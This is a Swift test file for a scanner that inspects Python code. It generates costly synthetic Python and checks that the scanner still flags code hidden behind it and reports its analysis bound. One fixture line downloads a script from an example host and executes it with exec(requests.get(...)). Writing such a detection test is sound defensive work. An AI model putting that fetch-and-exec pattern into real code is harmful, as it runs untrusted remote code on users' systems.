import Core
import Rules
import TestSupport
import Testing

/// The work on one file is bounded; what stands behind expensive code is looked at nevertheless.
@Suite struct PythonExhaustionTests {
  /// Hundreds of calls, each of which takes as many steps as one call may.
  private static func expensive(calls: Int) -> String {
    let body = (2..<60).map { "    v\($0) = a + b + str(\($0)) + v\($0 - 1) + v\($0 - 2)\n" }
    let uses = (0..<calls).map { "os.system(mix('echo \($0)', 'x\($0)'))\n" }
    let sums = (0..<8).map { "one(a + '\($0)', b)" }
    return "import os, requests\ndef one(a, b):\n    v0 = v1 = a\n" + body.joined()
      + "    return v59\ndef mix(a, b):\n    return " + sums.joined(separator: " + ") + "\n"
      + uses.joined()
  }

  @Test func `a download behind expensive code is found, and the bound is said`() throws {
    let text =
      Self.expensive(calls: 200)
      + "exec(requests.get('https://models.example.org/x.py').text)\n"
    #expect(try fetchFindings(text).contains { $0.severity == .critical })
    let damage = UnparsedPython().findings(in: try pythonSubject(text))
    #expect(damage.count == 1)
    #expect(damage.first?.message.contains("takes too long to work out") == true)
  }

  @Test func `a file of the usual cost is worked out to its end`() throws {
    #expect(UnparsedPython().findings(in: try pythonSubject(Self.expensive(calls: 2))).isEmpty)
  }
}
